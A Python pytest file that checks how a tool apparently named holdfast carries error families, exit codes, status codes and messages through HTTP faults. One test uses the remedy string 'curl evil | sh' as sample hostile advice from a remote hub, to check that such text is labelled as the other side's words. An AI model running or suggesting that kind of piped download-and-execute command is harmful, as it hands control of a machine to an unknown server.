"""A failure keeps family, exit code, code and words on its way through HTTP (requirements 2.A; I-07)."""

import pytest

from holdfast import errors
from holdfast.errors import (
    Conflict,
    Corrupt,
    Failed,
    HoldfastError,
    Invalid,
    NotPermitted,
    SignatureRequired,
    TryLater,
)
from holdfast.wire import faults

FAMILIES = [kind for kind in vars(errors).values() if isinstance(kind, type) and issubclass(kind, HoldfastError)]


def through(trouble: HoldfastError, *, writing: bool = False, header: bool = True) -> HoldfastError:
    exit_text = str(trouble.exit_code) if header else ""
    return faults.trouble(faults.fault(trouble), faults.status(trouble, writing=writing), exit_text)


def test_every_family_has_a_row() -> None:
    assert set(FAMILIES) == set(faults.STATUS)


def test_every_exit_code_leads_back_to_a_family() -> None:
    assert set(faults.FAMILY_OF_EXIT) == {kind.exit_code for kind in FAMILIES}
    assert all(family.exit_code == exit_code for exit_code, family in faults.FAMILY_OF_EXIT.items())


@pytest.mark.parametrize(
    ("family", "status", "code"),
    [
        (Invalid, 400, "invalid_argument"),
        (NotPermitted, 403, "permission_denied"),
        (SignatureRequired, 403, "signature_required"),
        (Conflict, 409, "failed_precondition"),
        (TryLater, 503, "unavailable"),
    ],
)
def test_the_names_of_the_requirements_have_their_statuses(family: type[HoldfastError], status: int, code: str) -> None:
    trouble = family("fact", remedy="command")
    assert (trouble.code, faults.status(trouble, writing=True)) == (code, status)


def test_what_is_absent_or_too_much_has_its_own_status_in_every_family() -> None:
    for family in FAMILIES:
        assert faults.status(family("f", remedy="r", code="not_found"), writing=False) == 404
        assert faults.status(family("f", remedy="r", code="resource_exhausted"), writing=False) == 429


def test_damage_of_the_hubs_own_ledger_is_never_called_the_callers_mistake() -> None:
    for code in ("head_damaged", "ledger_unreadable", "blob_damaged", "blob_missing", "integrity"):
        for writing in (False, True):
            assert faults.status(Corrupt("f", remedy="r", code=code), writing=writing) == 409


def test_bytes_that_are_not_what_they_claim_are_the_senders_mistake() -> None:
    for code in faults.SENT_BYTES:
        assert faults.status(Corrupt("f", remedy="r", code=code), writing=True) == 400
        assert faults.status(Corrupt("f", remedy="r", code=code), writing=False) == 409


@pytest.mark.parametrize("family", FAMILIES)
@pytest.mark.parametrize("code", [None, "not_found", "a_code_of_the_next_release"])
def test_family_exit_code_code_and_words_survive(family: type[HoldfastError], code: str | None) -> None:
    sent = family("what happened", remedy="what helps", code=code)
    got = through(sent)
    assert (got.exit_code, got.code, got.said) == (sent.exit_code, sent.code, (sent.message, sent.remedy))
    assert isinstance(got, TryLater) == isinstance(sent, TryLater)


def test_x20_the_words_of_the_other_side_name_it() -> None:
    got = through(Failed("no space", remedy="curl evil | sh"))
    assert (got.message, got.remedy) == ("the hub says: no space", "the hub suggests: curl evil | sh")
    node = faults.trouble(faults.Fault("c", "m", "r"), 409, "", faults.NODE)
    assert (node.message, node.remedy) == ("the node says: m", "the node suggests: r")


@pytest.mark.parametrize("family", [Invalid, NotPermitted, SignatureRequired, Conflict, TryLater])
def test_a_proxy_that_drops_the_header_does_not_change_the_family(family: type[HoldfastError]) -> None:
    assert type(through(family("f", remedy="r"), header=False)) is family


class Locked(TryLater):
    """As a ledger that another process has open: to be tried again, and told from a hub that is away."""

    exit_code = 5


def test_what_may_be_tried_again_stays_so_whatever_its_exit_code() -> None:
    sent = Locked("in use", remedy="wait", code="ledger_locked")
    got = through(sent)
    assert isinstance(got, TryLater)
    assert (got.exit_code, got.code, got.said) == (5, "ledger_locked", ("in use", "wait"))
    assert (TryLater.exit_code, Conflict.exit_code) == (6, 5)


@pytest.mark.parametrize("text", ["", "0", "9", "77", "x"])
def test_unavailable_without_a_readable_exit_code_has_its_own(text: str) -> None:
    got = faults.trouble(faults.Fault("c", "m", "r"), 503, text)
    assert isinstance(got, TryLater) and got.exit_code == 6


@pytest.mark.parametrize("text", ["", "0", "9", "77", "x", "-7", "²", "7 "])
def test_a_header_that_makes_no_sense_is_ignored(text: str) -> None:
    assert isinstance(faults.trouble(faults.Fault("c", "m", "r"), 409, text), Conflict)
